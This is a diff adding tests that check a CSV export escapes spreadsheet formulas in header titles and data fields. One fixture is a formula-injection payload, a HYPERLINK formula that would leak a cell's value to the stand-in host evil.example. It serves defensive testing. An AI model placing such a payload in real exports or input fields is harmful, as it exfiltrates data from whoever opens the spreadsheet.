@@ -62,6 +62,25 @@ describe('csvStream', () => {
   });
 });
 
+describe('formula neutralisation', () => {
+  const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Skill")';
+
+  it('covers the header row: a skill title is a cell like any other', async () => {
+    let text = '';
+    for await (const chunk of csvStream([{ skillCode: 'S1', title: evil }], [])) text += String(chunk);
+    expect(text).toBe(
+      '\ufeff"Employee Id","Employee Name","\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Skill"")",' +
+        '"Daily Average","Monthly Average","Yearly Average"\r\n',
+    );
+  });
+
+  it('covers every field of every line, whatever its column', () => {
+    expect(csvLine(['=1', '+1', '-1', '@A1', '\t=1', '\r=1', 'safe', '7.50', ''])).toBe(
+      `"'=1","'+1","'-1","'@A1","'\t=1","'\r=1","safe","7.50",""\r\n`,
+    );
+  });
+});
+
 describe('csvLine', () => {
   it('quotes every field, doubles quotes and keeps commas and line breaks inside the quotes', () => {
     expect(csvLine(['a', '', 'say "hi"', 'x,y', 'two\r\nlines'])).toBe(
